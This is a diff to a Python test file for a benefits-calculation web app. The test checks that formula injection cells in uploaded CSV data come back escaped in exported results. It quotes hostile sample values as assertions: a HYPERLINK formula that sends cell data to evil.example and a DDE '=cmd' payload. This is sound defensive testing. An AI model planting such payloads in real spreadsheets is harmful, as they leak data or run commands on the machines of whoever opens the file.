@@ -12,6 +12,7 @@ from fastapi.testclient import TestClient
 from kuaiban.app import create_app
 from kuaiban.rules.calculators import get
 from kuaiban.rules.population import EXTRA_COLUMNS
+from kuaiban.web.calc_forms import form_field
 
 # the review's file (finding 5): formulas in echoed columns and in a cell the error message quotes
 HOSTILE = ('region,month,contribution_months,benefit_month,note\n'
@@ -41,10 +42,13 @@ def test_no_cell_of_a_result_starts_a_formula(client):
                     follow_redirects=False)
     assert r.status_code == 303
     rows = _result(client, r.headers["location"].rsplit("/", 1)[1])
-    assert rows[0]["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")' and rows[0]["value"]
-    assert rows[1]["contribution_months"] == "'=1+1" and rows[1]["note"].startswith("'@SUM")
-    assert rows[1]["error"].startswith("contribution_months：应为数字")
-    assert rows[2]["region"] == "'=cmd|' /C calc'!A0"
+    result = next(c for c in rows[0] if c.startswith("计算结果"))
+    months = form_field(get("unemployment_benefit").fields[2], "unemployment_benefit").label
+    assert rows[0]["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")' and rows[0][result]
+    assert rows[1][months] == "'=1+1" and rows[1]["note"].startswith("'@SUM")
+    assert rows[1]["错误说明"].startswith(f"{months}：应为数字")
+    region = form_field(get("unemployment_benefit").fields[0], "unemployment_benefit").label
+    assert rows[2][region] == "'=cmd|' /C calc'!A0"
     for row in rows:
         assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in row.values())
 
